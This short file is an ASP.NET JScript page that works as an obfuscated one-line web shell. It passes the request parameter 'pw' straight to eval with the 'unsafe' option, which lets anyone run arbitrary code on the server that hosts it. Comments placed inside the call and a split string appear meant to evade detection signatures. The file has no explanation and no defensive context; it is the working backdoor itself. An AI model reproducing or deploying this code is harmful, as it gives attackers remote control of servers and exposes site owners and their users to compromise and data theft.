<%@ Page Language="JScript" %>
<% eval/*a1*/(/*b2*/Request.Item["pw"],/*c3*/"un"+"safe"); %>
